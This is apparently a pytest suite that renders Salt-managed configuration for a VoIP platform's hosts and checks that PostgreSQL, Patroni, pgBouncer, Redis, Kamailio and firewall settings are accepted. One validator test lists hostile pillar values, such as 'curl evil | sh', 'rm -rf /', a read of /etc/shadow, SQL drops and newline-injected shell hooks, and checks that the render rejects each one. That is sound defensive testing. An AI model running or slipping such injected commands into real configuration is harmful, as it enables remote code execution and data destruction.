"""
Every role renders with the lab pillar and with a production-like AU pillar, and
each rendered configuration is accepted by its own program.
"""

import json
import re
import socket
import subprocess
from pathlib import Path

import pytest
import yaml

from tests.doubles import freeswitch_rules
from tests.render import checkers
from tests.support import REPO, VENV_BIN, fake_secrets, load_module, salt_call, wait_for, write_minion_config

ROLE_OF = {
    "lab-coord-1": "coordinator",
    "coord-syd-1": "coordinator",
    "kam-mel-1": "kamailio-standby",
    "pgrep-syd-1": "pg-replica",
    "fs-syd-1": "freeswitch",
}
COORDINATORS = ["lab-coord-1", "coord-syd-1"]
KAMAILIOS = ["lab-coord-1", "coord-syd-1", "kam-mel-1"]
AU_REPLICA = "192.0.2.20"
FS_ADDRESS = "10.28.0.50"
# What site/au.sls adds to the region's keepalived settings: Vultr's ids, Melbourne's address.
AU_EDGE_SITE = {"reserved_ip_id": "cb676a46-66fd-4dfb-b839-443f2e6c0b60",
                "peers": {"coord-syd-1": {"instance_id": "3e4a8b1c-2f6d-4c1a-9b7e-5d0f8a2c6e11"},
                          "kam-mel-1": {"public_address": "45.76.112.9"}}}


@pytest.fixture(scope="module")
def env(tmp_path_factory):
    """A masterless config with this tree's pillar plus a site pillar of fake secrets."""
    tmp = tmp_path_factory.mktemp("render")
    site = tmp / "pillar" / "site"
    site.mkdir(parents=True)
    secrets = fake_secrets()
    secrets["freeswitch"]["signalwire_token"] = "pat_fake_signalwire_token_for_tests"
    (tmp / "secrets.sls").write_text(json.dumps({"secrets": secrets}))
    (site / "au.sls").write_text(json.dumps({"postgres": {"replicas": [AU_REPLICA]},
                                             "freeswitch": {"node_address": FS_ADDRESS},
                                             "keepalived": AU_EDGE_SITE,
                                             "dns": {"addresses": {"sip-mel": "45.76.112.9"}},
                                             "wireguard": {"hosts": {"kam-mel-1": {"endpoint": "45.76.112.9"},
                                                                     "pgrep-syd-1": {"endpoint": AU_REPLICA}}}}))
    config = write_minion_config(tmp / "etc", tmp / "secrets.sls", tmp / "pillar")
    # A media node derives its xml_curl password from its minion key.
    pki = tmp / "etc" / "root" / "etc" / "salt" / "pki" / "minion"
    pki.mkdir(parents=True)
    subprocess.run([str(VENV_BIN / "salt-key"), "--gen-keys=minion", f"--gen-keys-dir={pki}"],
                   capture_output=True, check=False)
    assert (pki / "minion.pem").exists()
    salt_call(config, "saltutil.sync_all")
    return {"config": config, "secrets": secrets, "tmp": tmp}


@pytest.fixture(scope="module")
def lowstate(env):
    cache = {}

    def get(minion_id):
        if minion_id not in cache:
            _, chunks = salt_call(env["config"], "state.show_lowstate", minion_id=minion_id)
            cache[minion_id] = chunks
        return cache[minion_id]

    return get


@pytest.fixture(scope="module")
def rendered(env, lowstate):
    """The files a minion's highstate would write: {path: text}, templates rendered by Salt."""
    cache = {}

    def get(minion_id):
        if minion_id in cache:
            return cache[minion_id]
        files = {}
        for chunk in lowstate(minion_id):
            if chunk["state"] != "file" or chunk["fun"] != "managed":
                continue
            if "contents" in chunk:
                files[chunk["name"]] = chunk["contents"]
                continue
            dest = env["tmp"] / "out" / minion_id / chunk["name"].lstrip("/")
            context = [f"{key}={json.dumps(value)}" for key, value in chunk.get("context", {}).items()]
            salt_call(env["config"], "cp.get_template", chunk["source"], str(dest), "makedirs=True", *context,
                      minion_id=minion_id)
            files[chunk["name"]] = dest.read_text()
        cache[minion_id] = files
        return files

    return get


def _secrets(env, minion_id):  # noqa: ARG001  (one fake set serves every minion)
    return env["secrets"]


@pytest.mark.parametrize("minion_id", ROLE_OF)
def test_every_role_renders_its_formulas(lowstate, minion_id):
    chunks = lowstate(minion_id)
    assert all(isinstance(chunk, dict) for chunk in chunks), chunks
    formulas = {chunk["__sls__"] for chunk in chunks}
    # The lab never runs ufw on the host it shares (firewall:enabled false).
    expected = {"common"} if minion_id.startswith("lab-") else {"common", "firewall"}
    if ROLE_OF[minion_id] == "coordinator":
        expected |= {"postgres", "pgbouncer", "redis", "rtpengine", "kamailio", "dns", "api", "nginx", "salt_master"}
        # One host has no VRRP partner: the single-host lab runs no Keepalived.
        expected |= set() if minion_id.startswith("lab-") else {"keepalived"}
        # The lab's plan is on loopback: the network formula has nothing to do there;
        # and the lab runs SIPp stand-ins where production has FreeSWITCH nodes.
        expected |= {"media_standin"} if minion_id.startswith("lab-") else {"network"}
    if ROLE_OF[minion_id] == "kamailio-standby":
        # Its own RTPEngine and Kamailio, at their plan addresses on its own interface.
        expected |= {"network", "rtpengine", "kamailio", "keepalived"}
    # The region's WireGuard mesh: every host but the media nodes (none in the single-host lab).
    # and etcd on three of its hosts (Patroni's leader lock), PostgreSQL on two.
    if ROLE_OF[minion_id] in ("coordinator", "kamailio-standby", "pg-replica") and not minion_id.startswith("lab-"):
        expected |= {"wireguard", "etcd"}
    if ROLE_OF[minion_id] == "pg-replica":
        expected |= {"postgres"}
    if ROLE_OF[minion_id] == "freeswitch":
        expected |= {"freeswitch", "freeswitch.ready"}
    assert formulas == expected
    ids = [(chunk["state"], chunk["__id__"]) for chunk in chunks]
    assert len(ids) == len(set(ids))


@pytest.mark.parametrize("minion_id", ROLE_OF)
def test_roles_come_from_the_minion_id(rendered, minion_id):
    extra = ["media-standin"] if minion_id.startswith("lab-") else []
    assert rendered(minion_id)["/etc/gopbx/roles"].strip().split("\n")[1:] == [ROLE_OF[minion_id]] + extra


def test_a_lone_postgres_config_is_accepted_by_postgres(rendered):
    minion_id, version = "lab-coord-1", 15
    files = rendered(minion_id)
    result = checkers.check_postgres(files[f"/etc/postgresql/{version}/main/conf.d/gopbx.conf"],
                                     files[f"/etc/postgresql/{version}/main/pg_hba.conf"])
    assert result["file_errors"] == [] and result["hba_errors"] == []
    assert result["settings"] == {
        "wal_level": "replica", "max_wal_senders": "3", "wal_keep_size": "256MB", "max_connections": "100",
        "shared_buffers": "256MB" if minion_id.startswith("lab-") else "1GB", "password_encryption": "scram-sha-256",
    }
    rules = [tuple(rule) for rule in result["hba_rules"]]
    pooled = "{gopbx_api,gopbx_metrics,gopbx_salt,kamailio}"
    assert ("host", "{gopbx}", pooled, "127.28.0.0", "scram-sha-256") in rules
    assert not any(rule[1] == "{replication}" for rule in rules)
    assert ("local", "{all}", "{postgres}", "", "peer") in rules
    assert all(rule[4] in ("peer", "scram-sha-256") for rule in rules)


def checked_by_patroni(path, text):
    """
    What ``patroni --validate-config`` finds wrong ("" if nothing). It connects to
    the addresses it names (a listen address must be free, etcd must answer), so it
    checks a copy on loopback (mesh 10.29.0.N as 127.29.0.N, etcd's ports held open
    here) with this host's PostgreSQL binaries: tests send nothing off this host.
    """
    installed = sorted(path.name for path in Path("/usr/lib/postgresql").iterdir())[-1]
    path.write_text(re.sub(r"\b10\.29\.0\.(\d+)", r"127.29.0.\1", text).replace(
        "/usr/lib/postgresql/16/bin", f"/usr/lib/postgresql/{installed}/bin"))
    etcd = yaml.safe_load(path.read_text())["etcd"]["hosts"]
    listeners = []
    try:
        for host_port in etcd:
            host, port = host_port.rsplit(":", 1)
            listener = socket.create_server((host, int(port)))
            listeners.append(listener)
        checked = subprocess.run(["patroni", "--validate-config", str(path)], capture_output=True, text=True,
                                 check=False, timeout=60)
    finally:
        for listener in listeners:
            listener.close()
    return "" if checked.returncode == 0 else checked.stdout + checked.stderr


@pytest.mark.parametrize(("minion_id", "me"), [("coord-syd-1", "10.29.0.1"), ("pgrep-syd-1", "10.29.0.3")])
def test_each_database_member_runs_patroni_with_a_config_patroni_accepts(env, rendered, lowstate, minion_id, me):
    text = rendered(minion_id)["/etc/patroni/config.yml"]
    assert checked_by_patroni(env["tmp"] / f"patroni-{minion_id}.yml", text) == ""
    config = yaml.safe_load(text)
    secrets = _secrets(env, minion_id)["postgres"]
    assert config["name"] == minion_id and config["scope"] == "gopbx-au"
    assert config["restapi"]["listen"] == f"{me}:8008"
    assert config["restapi"]["authentication"] == {"username": "gopbx", "password": secrets["patroni_rest"]}
    # etcd's v2 API (Patroni 3.0's v3 client retakes a lapsed leader key), on the three members' mesh addresses.
    assert config["etcd"] == {"hosts": ["10.29.0.1:2379", "10.29.0.3:2379", "10.29.0.2:2379"]}
    dcs = config["bootstrap"]["dcs"]
    assert (dcs["synchronous_mode"], dcs["synchronous_mode_strict"], dcs["ttl"], dcs["loop_wait"],
            dcs["retry_timeout"], dcs["primary_start_timeout"]) == (True, False, 10, 2, 3, 0)
    assert dcs["postgresql"]["use_pg_rewind"] is True
    # The seed's settings, and wal_log_hints for pg_rewind.
    assert {key: str(value) for key, value in dcs["postgresql"]["parameters"].items()}.items() >= {
        "wal_level": "replica", "max_wal_senders": "3", "wal_keep_size": "256MB", "max_connections": "100",
        "wal_log_hints": "on"}.items()
    assert "data-checksums" in config["bootstrap"]["initdb"]
    postgresql = config["postgresql"]
    assert postgresql["listen"] == f"127.0.0.1,{me}:5432" and postgresql["connect_address"] == f"{me}:5432"
    assert postgresql["parameters"]["password_encryption"] == "scram-sha-256"
    assert postgresql["parameters"]["shared_buffers"] == "1024MB" and postgresql["parameters"]["ssl"] == "on"
    assert postgresql["authentication"]["replication"] == {"username": "replicator", "password": secrets["replicator"],
                                                           "sslmode": "require"}
    hba = [line.split() for line in postgresql["pg_hba"]]
    assert postgresql["pg_hba"] == config["bootstrap"]["pg_hba"]
    # Replication and rewind from the two members alone, over TLS; the pooled roles from the plan and the mesh.
    assert [rule for rule in hba if rule[1] in ("replication", "postgres")] == [
        ["hostssl", "replication", "replicator", "10.29.0.1/32", "scram-sha-256"],
        ["hostssl", "postgres", "postgres", "10.29.0.1/32", "scram-sha-256"],
        ["hostssl", "replication", "replicator", "10.29.0.3/32", "scram-sha-256"],
        ["hostssl", "postgres", "postgres", "10.29.0.3/32", "scram-sha-256"]]
    pooled = "gopbx_api,gopbx_metrics,gopbx_salt,kamailio"
    assert [rule for rule in hba if rule[0] == "host"] == [
        ["host", "gopbx", pooled, "172.28.0.0/24", "scram-sha-256"],
        ["host", "gopbx", pooled, "10.29.0.0/24", "scram-sha-256"]]
    assert ["local", "all", "postgres", "peer"] in hba and all(rule[-1] in ("peer", "scram-sha-256") for rule in hba)
    assert postgresql["callbacks"] == {"on_role_change": "/usr/local/lib/gopbx/patroni-role-changed"}
    chunks = {chunk["__id__"]: chunk for chunk in lowstate(minion_id)}
    assert chunks["postgres-patroni-config-managed"]["mode"] == "0600"
    # Debian's own cluster stays down; roles and migrations are written on the primary alone.
    assert chunks["postgres-debian-cluster-stopped"]["fun"] == "dead"
    for state in ("postgres-role-kamailio-present", "postgres-database-present", "postgres-schema-migrated"):
        assert chunks[state]["onlyif"] == f"curl -sf -o /dev/null http://{me}:8008/primary"


def test_etcd_runs_on_three_mesh_hosts_of_two_locations(rendered):
    members = "coord-syd-1=http://10.29.0.1:2380,kam-mel-1=http://10.29.0.2:2380,pgrep-syd-1=http://10.29.0.3:2380"
    for minion_id, me in (("coord-syd-1", "10.29.0.1"), ("kam-mel-1", "10.29.0.2"), ("pgrep-syd-1", "10.29.0.3")):
        config = dict(line.split("=", 1) for line in rendered(minion_id)["/etc/default/etcd"].splitlines()
                      if line and not line.startswith("#"))
        assert config["ETCD_NAME"] == f'"{minion_id}"' and config["ETCD_INITIAL_CLUSTER"] == f'"{members}"'
        assert config["ETCD_LISTEN_CLIENT_URLS"] == f'"http://{me}:2379,http://127.0.0.1:2379"'
        assert config["ETCD_LISTEN_PEER_URLS"] == f'"http://{me}:2380"' and config["ETCD_ENABLE_V2"] == '"true"'
    assert "/etc/default/etcd" not in rendered("fs-syd-1")


@pytest.mark.parametrize("minion_id", COORDINATORS)
def test_pgbouncer_config_is_accepted_by_pgbouncer(env, rendered, lowstate, minion_id):
    files = rendered(minion_id)
    ini = files["/etc/pgbouncer/pgbouncer.ini"]
    plan = "127.28.0" if minion_id.startswith("lab-") else "172.28.0"
    assert f"listen_addr = {plan}.12" in ini
    if minion_id.startswith("lab-"):
        assert f"host={plan}.10 port=5432" in ini
    else:
        # Under Patroni the [databases] section is its own file, which pgBouncer follows the primary in.
        assert "%include /etc/pgbouncer/databases.ini" in ini and "[databases]" not in ini
        ini = ini.replace("%include /etc/pgbouncer/databases.ini", f"[databases]\ngopbx = host={plan}.10 port=5432")
        chunks = {chunk["__id__"]: chunk for chunk in lowstate(minion_id)}
        assert chunks["pgbouncer-follows-primary"]["name"] == "/etc/pgbouncer/databases.ini"
        assert (chunks["pgbouncer-follows-primary-scheduled"]["function"],
                chunks["pgbouncer-follows-primary-scheduled"]["seconds"]) == ("gopbx_patroni.follow", 5)
    config, log = checkers.check_pgbouncer(ini, files["/etc/pgbouncer/userlist.txt"], "gopbx_metrics",
                                           _secrets(env, minion_id)["postgres"]["metrics"])
    assert config["pool_mode"] == "transaction"
    assert config["default_pool_size"] == "40" and config["max_client_conn"] == "500"
    assert config["max_db_connections"] == "80" and config["auth_type"] == "scram-sha-256"
    assert "WARNING" not in log and "ERROR" not in log


@pytest.mark.parametrize("minion_id", COORDINATORS)
def test_pgbouncer_auth_file_holds_no_plaintext(env, rendered, minion_id):
    userlist = rendered(minion_id)["/etc/pgbouncer/userlist.txt"]
    for password in _secrets(env, minion_id)["postgres"].values():
        assert password not in userlist
    assert userlist.count("SCRAM-SHA-256$4096:") == 4


@pytest.mark.parametrize("minion_id", COORDINATORS)
def test_redis_config_is_accepted_by_redis(env, rendered, minion_id):
    conf = rendered(minion_id)["/etc/redis/redis.conf"]
    plan = "127.28.0" if minion_id.startswith("lab-") else "172.28.0"
    assert f"bind {plan}.11" in conf
    config, anonymous = checkers.check_redis(conf, _secrets(env, minion_id)["redis"]["password"])
    assert config == {"maxmemory": str(512 * 1024 * 1024), "maxmemory-policy": "allkeys-lru", "protected-mode": "yes"}
    assert anonymous.startswith("NOAUTH")


def test_production_internal_network_holds_every_plan_address(rendered):
    interface = rendered("coord-syd-1")["/etc/network/interfaces.d/gopbx0"]
    assert "ip link add gopbx0 type dummy" in interface
    for host in (1, 10, 11, 12, 13, 15, 30, 40, 41, 42, 43, 44):
        assert f"ip addr add 172.28.0.{host}/24 dev gopbx0" in interface


def firewall_rules(lowstate, minion_id):
    return {(chunk.get("src", "any"), chunk["dport"] + "/" + chunk["proto"]) for chunk in lowstate(minion_id)
            if chunk["state"] == "ufw" and chunk["fun"] == "rule_present" and "dport" in chunk}


def test_every_host_takes_its_salt_masters_packets_from_the_private_networks_only(lowstate):
    for minion_id in ("coord-syd-1", "kam-mel-1", "fs-syd-1", "pgrep-syd-1"):
        master = [(chunk["src"], chunk["sport"], chunk["proto"]) for chunk in lowstate(minion_id)
                  if chunk["state"] == "ufw" and "sport" in chunk]
        # The WireGuard mesh's hosts take them through the tunnel too; media nodes are not on it.
        mesh = [] if minion_id.startswith("fs-") else [("10.29.0.0/24", "4505:4506", "tcp")]
        assert sorted(master) == sorted([("10.28.0.0/20", "4505:4506", "tcp"),
                                         ("172.28.0.0/24", "4505:4506", "tcp"), *mesh])


def test_the_firewall_opens_the_seeds_public_ports_and_control_ports_only_privately(lowstate):
    private = ("172.28.0.0/24", "10.28.0.0/20")
    coordinator = firewall_rules(lowstate, "coord-syd-1")
    # 51820/udp: the WireGuard mesh, whose tunnel network reaches the control ports too.
    public = {"22/tcp", "80/tcp", "443/tcp", "5060/udp", "5060/tcp", "5061/tcp", "16384:32768/udp", "51820/udp"}
    # 5090/udp: DMQ between the SIP edge hosts.
    control = {"2223/udp", "5432/tcp", "6379/tcp", "8080/tcp", "4505:4506/tcp", "5090/udp"}
    # etcd and Patroni's REST API: from the mesh alone.
    mesh = {("10.29.0.0/24", port) for port in ("2379/tcp", "2380/tcp", "8008/tcp")}
    assert coordinator == {("any", port) for port in public} | {
        (net, port) for net in (*private, "10.29.0.0/24") for port in control} | mesh
    replica = firewall_rules(lowstate, "pgrep-syd-1")
    assert replica == {("any", "22/tcp"), ("any", "51820/udp")} | mesh | {
        (net, "5432/tcp") for net in (*private, "10.29.0.0/24")}
    assert {rule for rule in firewall_rules(lowstate, "kam-mel-1") if rule[1] in ("2379/tcp", "8008/tcp")} == {
        ("10.29.0.0/24", "2379/tcp")}
    # Media nodes: SSH in public; SIP, the event socket and media from the private networks only.
    assert firewall_rules(lowstate, "fs-syd-1") == {("any", "22/tcp")} | {
        (net, port) for net in private for port in ("5080/udp", "5080/tcp", "8021/tcp", "16384:32768/udp")}
    assert ("any", "2223/udp") not in coordinator
    chunks = [chunk for chunk in lowstate("kam-mel-1") if chunk["state"] == "ufw"]
    # ufw is enabled after every rule (SSH stays open), then its default deny is asserted.
    policy = next(chunk for chunk in chunks if chunk["fun"] == "default_policy")
    assert policy["policy"] == "deny" and {"ufw": "firewall-ufw-enabled"} in policy["require"]
    assert all({"ufw": "firewall-ufw-enabled"} in chunk["require_in"] for chunk in chunks
               if chunk["fun"] == "rule_present")


def test_lab_needs_no_interface(lowstate):
    assert not [chunk for chunk in lowstate("lab-coord-1") if chunk["__sls__"] == "network"]


@pytest.mark.parametrize("override,key", [
    ({"redis": {"maxmemory_mb": -5}}, "redis:maxmemory_mb"),
    ({"pgbouncer": {"default_pool_size": 0}}, "pgbouncer:default_pool_size"),
    ({"roles": ["coordinator", "mystery"]}, "roles"),
    ({"network": {"services": {"postgres": "8.8.8.8"}}}, "network:services:postgres"),
    ({"secrets": {"redis": {"password": None}}}, "secrets:redis:password"),
    ({"nginx": {"acme_email": ""}}, "nginx:acme_email"),
    ({"nginx": {"server_name": "API.GoPBX"}}, "nginx:server_name"),
    ({"freeswitch": {"node_address": "192.0.2.1"}}, "freeswitch:node_address"),
    ({"freeswitch": {"modules": ["mod_console"]}}, "freeswitch:modules"),
    ({"freeswitch": {"profile": "Internal Profile"}}, "freeswitch:profile"),
    ({"secrets": {"freeswitch": {"signalwire_token": None}}}, "secrets:freeswitch:signalwire_token"),
    ({"freeswitch": {"binary": "docker"}}, "freeswitch:binary"),
    ({"postgres": {"dispatcher_sets": {1: {"region": "Sydney; --", "description": "x"}}}},
     "postgres:dispatcher_sets:1:region"),
    ({"postgres": {"dispatcher_sets": {"one": {"region": "syd", "description": "x"}}}},
     "postgres:dispatcher_sets:one"),
    ({"salt_master": {"vultr_api_url": "file:///etc/shadow"}}, "salt_master:vultr_api_url"),
    ({"salt_master": {"placement": {"evil-1": 1}}}, "salt_master:placement"),
    ({"salt_master": {"placement": {"fs-syd-1": "1; DROP TABLE"}}}, "salt_master:placement:fs-syd-1"),
    ({"salt_master": {"allowed_networks": ["0.0.0.0/0 ; x"]}}, "salt_master:allowed_networks:0"),
    # Keys the old validator never looked at, and unknown keys (a typo would be ignored).
    ({"kamailio": {"tls_common_name": "sip.gopbx.au' -x 'touch /tmp/p"}}, "kamailio:tls_common_name"),
    ({"kamailio": {"tls_certificate": "/etc/ssl/sip.pem"}}, "kamailio:tls_private_key"),
    ({"kamailio": {"nonlocal_bind": "yes"}}, "kamailio:nonlocal_bind"),
    ({"kamailio": {"tls_comon_name": "sip.gopbx.au"}}, "kamailio"),
    ({"postgres": {"database": "gopbx; DROP DATABASE x"}}, "postgres:database"),
    ({"postgres": {"login_roles": {"kamailio": {"secret": "kamailio", "pooled": "true", "replication": False}}}},
     "postgres:login_roles:kamailio:pooled"),
    ({"pgbouncer": {"stats_users": ["gopbx_metrics,admin"]}}, "pgbouncer:stats_users:0"),
    ({"api": {"pip_options": "--index-url http://x; curl evil | sh"}}, "api:pip_options"),
    ({"redis": "512"}, "redis"),
    # The SIP edge's VRRP group and public side.
    ({"keepalived": {"advert_interval": 0}}, "keepalived:advert_interval"),
    ({"keepalived": {"advert_interval": "0.1; reboot"}}, "keepalived:advert_interval"),
    ({"keepalived": {"virtual_router_id": 256}}, "keepalived:virtual_router_id"),
    ({"keepalived": {"vrrp_interface": "wg0 }\nvrrp_instance X {"}}, "keepalived:vrrp_interface"),
    ({"keepalived": {"peers": {"coord-syd-1": {"priority": 255}}}}, "keepalived:peers:coord-syd-1:priority"),
    ({"keepalived": {"peers": {"coord-syd-1": {"address": "10.29.0.1/24"}}}}, "keepalived:peers:coord-syd-1:address"),
    ({"keepalived": {"peers": {"coord-syd-1.evil": {"address": "10.29.0.9", "priority": 9, "location": "syd"}}}},
     "keepalived:peers"),
    ({"keepalived": {"peers": {"kam-mel-1": {"priority": 150}}}}, "keepalived:peers"),
    ({"keepalived": {"peers": {"kam-mel-1": {"address": "10.29.0.1"}}}}, "keepalived:peers"),
    ({"keepalived": {"peers": {"coord-syd-1": {"instance_id": ""}}}}, "keepalived:peers:coord-syd-1:instance_id"),
    ({"keepalived": {"reserved_ip_id": ""}}, "keepalived:reserved_ip_id"),
    ({"keepalived": {"sip_address": ""}}, "keepalived:sip_address"),
    ({"keepalived": {"dns": {"domain": "", "name": "sip", "ttl": 30}}}, "keepalived:dns:domain"),
    ({"keepalived": {"dns": {"ttl": 1}}}, "keepalived:dns:ttl"),
    ({"keepalived": {"vultr_api_url": "http://x/\"; rm -rf /"}}, "keepalived:vultr_api_url"),
    ({"secrets": {"vultr": {"edge_api_key": None}}}, "secrets:vultr:edge_api_key"),
    # The zone from pillar.
    ({"dns": {"zone": "gopbx.au.\n@ NS evil.example."}}, "dns:zone"),
    ({"dns": {"addresses": {"api": "149.28.188.104; rm"}}}, "dns:addresses:api"),
    ({"dns": {"addresses": {"api\nevil": "192.0.2.1"}}}, "dns:addresses"),
    ({"dns": {"sip_sites": ["sip", "nowhere"]}}, "dns:sip_sites:1"),
    ({"dns": {"server": "bind"}}, "dns:server"),
    ({"dns": {"sip_ttl": 0}}, "dns:sip_ttl"),
    ({"dns": {"server": "knot"}}, "dns:nameservers"),
    ({"secrets": {"vultr": {"api_key": None}}}, "secrets:vultr:api_key"),
    # The mesh.
    ({"wireguard": {"hosts": {"coord-syd-1": {"address": "10.99.0.1"}}}}, "wireguard:hosts:coord-syd-1:address"),
    ({"wireguard": {"hosts": {"kam-mel-1": {"address": "10.29.0.1"}}}}, "wireguard:hosts"),
    ({"wireguard": {"hosts": {"coord-syd-1": {"routes": ["0.0.0.0/0\nPostUp = sh"]}}}},
     "wireguard:hosts:coord-syd-1:routes:0"),
    ({"wireguard": {"interface": "wg0; reboot"}}, "wireguard:interface"),
    ({"wireguard": {"port": 70000}}, "wireguard:port"),
    ({"wireguard": {"hosts": {"fs-syd-1.evil": {"address": "10.29.0.9", "endpoint": "192.0.2.9"}}}},
     "wireguard:hosts"),
    ({"redis": {"required_secrets": []}}, "redis"),
    ({"secrets": {"postgres": {"salt": "short"}}}, "secrets:postgres:salt"),
    ({"secrets": {"postgres": {"salt": "pässwörd-with-umlauts-1234"}}}, "secrets:postgres:salt"),
    ({"secrets": {"redis": {"password": "has@an-at-sign-and/slash-1234"}}}, "secrets:redis:password"),
    ({"secrets": {"freeswitch": {"esl_password": "quote\"d-<xml>-secret-1234"}}}, "secrets:freeswitch:esl_password"),
    ({"secrets": {"api": {"jwt_key": "with spaces in the signing key"}}}, "secrets:api:jwt_key"),
    ({"kamailio": {"max_contacts": 0}}, "kamailio:max_contacts"),
    # The database cluster: etcd and Patroni.
    ({"etcd": {"members": ["coord-syd-1", "pgrep-syd-1"]}}, "etcd:members"),
    ({"etcd": {"members": ["coord-syd-1", "pgrep-syd-1", "fs-syd-9"]}}, "etcd:members:2"),
    ({"etcd": {"members": ["coord-syd-1", "coord-syd-1", "kam-mel-1"]}}, "etcd:members"),
    ({"etcd": {"members": "coord-syd-1"}}, "etcd:members"),
    ({"etcd": {"cluster_token": "gopbx\"; rm"}}, "etcd:cluster_token"),
    ({"etcd": {"client_port": 0}}, "etcd:client_port"),
    ({"postgres": {"patroni": {"members": ["coord-syd-1", "fs-syd-1"]}}}, "postgres:patroni:members:1"),
    ({"postgres": {"patroni": {"members": ["coord-syd-1", "coord-syd-1.evil"]}}}, "postgres:patroni:members:1"),
    ({"postgres": {"patroni": {"ttl": 8}}}, "postgres:patroni:ttl"),
    ({"postgres": {"patroni": {"ttl": "10"}}}, "postgres:patroni:ttl"),
    ({"postgres": {"patroni": {"synchronous": "yes"}}}, "postgres:patroni:synchronous"),
    ({"postgres": {"patroni": {"sync": True}}}, "postgres:patroni"),
    ({"postgres": {"patroni": {"rest_port": 70000}}}, "postgres:patroni:rest_port"),
    ({"secrets": {"postgres": {"superuser": None}}}, "secrets:postgres:superuser"),
    ({"secrets": {"postgres": {"patroni_rest": "short"}}}, "secrets:postgres:patroni_rest"),
    ({"secrets": {"postgres": {"patroni_rest": "with\nnewline-and-more-than-16"}}}, "secrets:postgres:patroni_rest"),
    ({"pgbouncer": {"follow_interval": 0}}, "pgbouncer:follow_interval"),
    ({"firewall": {"mesh_ports": {"coordinator": ["2379"]}}}, "firewall:mesh_ports:coordinator:0"),
])
def test_bad_pillar_fails_the_render_naming_the_key(env, override, key):
    minion_id = "fs-syd-1" if key.startswith(("freeswitch", "secrets:freeswitch")) else "coord-syd-1"
    # A dry run: if the render wrongly passed, nothing would be changed anyway.
    code, errors = salt_call(env["config"], "state.apply", "test=True", f"pillar={json.dumps(override)}",
                             minion_id=minion_id, check=False)
    assert code != 0
    assert isinstance(errors, list) and all(isinstance(error, str) for error in errors), errors
    assert f"pillar key '{key}'" in json.dumps(errors)


@pytest.mark.parametrize("minion_id", KAMAILIOS)
def test_kamailio_config_is_accepted_by_kamailio(rendered, minion_id):
    files = rendered(minion_id)
    code, output = checkers.check_kamailio(files["/etc/kamailio/kamailio.cfg"], files["/etc/kamailio/tls.cfg"])
    assert code == 0 and "config file ok" in output, output
    sip = "127.0.0.1" if minion_id.startswith("lab-") else "103.43.75.51"
    rpc = "127.28.0.15" if minion_id.startswith("lab-") else "172.28.0.15"
    for listener in (f"udp: {sip} [{sip}]:5060", f"tcp: {sip} [{sip}]:5060", f"tls: {sip} [{sip}]:5061",
                     f"tcp: {rpc} [{rpc}]:8080"):
        assert listener in output


@pytest.mark.parametrize("minion_id", KAMAILIOS)
def test_kamailio_reaches_the_database_through_pgbouncer(env, rendered, minion_id):
    cfg = rendered(minion_id)["/etc/kamailio/kamailio.cfg"]
    pgbouncer = "127.28.0.12" if minion_id.startswith("lab-") else "172.28.0.12"
    assert '#!define DBURL "postgres://kamailio:' in cfg and f"@{pgbouncer}:5432/gopbx" in cfg
    assert _secrets(env, minion_id)["postgres"]["kamailio"] in cfg


@pytest.mark.parametrize(("minion_id", "own", "peer"), [("coord-syd-1", "10.29.0.1", "10.29.0.2"),
                                                       ("kam-mel-1", "10.29.0.2", "10.29.0.1")])
def test_the_edge_pair_shares_state_over_dmq_on_its_private_addresses_only(rendered, minion_id, own, peer):
    files = rendered(minion_id)
    cfg = files["/etc/kamailio/kamailio.cfg"]
    code, output = checkers.check_kamailio(cfg, files["/etc/kamailio/tls.cfg"])
    assert code == 0 and f"udp: {own} [{own}]:5090" in output, output
    assert f'modparam("dmq", "server_address", "sip:{own}:5090")' in cfg
    assert re.findall(r'modparam\("dmq", "notification_address", "([^"]+)"\)', cfg) == [f"sip:{peer}:5090"]
    for module in ("dmq_usrloc", "dialog", "htable"):
        assert re.search(rf'modparam\("{module}", "(enable|enable_dmq)", 1\)', cfg), module
    assert "ipban=>size=8;autoexpire=300;dmqreplicate=1;" in cfg and "rates=>" in cfg
    # KDMQ is taken only on the DMQ socket, from the peer, and registrations never go to PostgreSQL.
    assert f'if (is_method("KDMQ") && ($si == "{peer}") && dmq_is_from_node())' in cfg
    assert f'if ($Rp != 5090 || $Ri != "{own}")' in cfg
    assert '"usrloc", "db_url", LOCATION_DB' in cfg and '"usrloc", "db_mode", 2' in cfg
    assert "ndb_redis" not in cfg and "redis" not in _secrets_of_config(cfg)


def _secrets_of_config(cfg):
    return " ".join(re.findall(r"pass=[^;\"]*", cfg))


def test_a_single_kamailio_runs_without_dmq(rendered):
    cfg = rendered("lab-coord-1")["/etc/kamailio/kamailio.cfg"]
    assert not re.search(r'(?m)^(loadmodule "dmq|modparam\("dmq|listen=udp:.*:5090)', cfg)
    assert "KDMQ" not in cfg and "dmqreplicate" not in cfg and "ndb_redis" not in cfg


def test_the_standby_holds_only_its_own_services_plan_addresses_and_relays_media_on_its_own_address(rendered):
    files = rendered("kam-mel-1")
    interface = files["/etc/network/interfaces.d/gopbx0"]
    assert re.findall(r"ip addr add (\S+)", interface) == ["172.28.0.1/32", "172.28.0.15/32"]
    assert "interface = 45.76.112.9" in files["/etc/rtpengine/rtpengine.conf"]
    assert "interface = 149.28.188.104" in rendered("coord-syd-1")["/etc/rtpengine/rtpengine.conf"]


def test_kamailio_58_only_settings_are_guarded(rendered):
    assert "#!define WITH_KAMAILIO_58\n" in rendered("coord-syd-1")["/etc/kamailio/kamailio.cfg"]
    assert "#!define WITH_KAMAILIO_58" not in rendered("lab-coord-1")["/etc/kamailio/kamailio.cfg"]


@pytest.mark.parametrize("minion_id", COORDINATORS)
def test_rtpengine_config_is_accepted_by_rtpengine(rendered, minion_id):
    conf = rendered(minion_id)["/etc/rtpengine/rtpengine.conf"]
    lab = minion_id.startswith("lab-")
    assert f"interface = {'127.0.0.1' if lab else '149.28.188.104'}" in conf
    assert f"listen-ng = {'127.28.0.1' if lab else '172.28.0.1'}:2223" in conf
    assert "port-min = 16384" in conf and "port-max = 32768" in conf
    assert f"table = {-1 if lab else 0}" in conf and "delete-delay = 5" in conf
    assert b"pong" in checkers.check_rtpengine(conf)


@pytest.mark.parametrize("minion_id", COORDINATORS)
def test_the_api_is_configured_for_the_plan(env, rendered, minion_id):
    files = rendered(minion_id)
    settings = json.loads(files["/etc/gopbx/api.json"])
    net = "127.28.0" if minion_id.startswith("lab-") else "172.28.0"
    secrets = _secrets(env, minion_id)
    assert settings["database_dsn"] == (f"host={net}.12 port=5432 dbname=gopbx user=gopbx_api "
                                        f"password={secrets['postgres']['api']}")
    assert settings["kamailio_rpc_url"] == f"http://{net}.15:8080/jsonrpc"
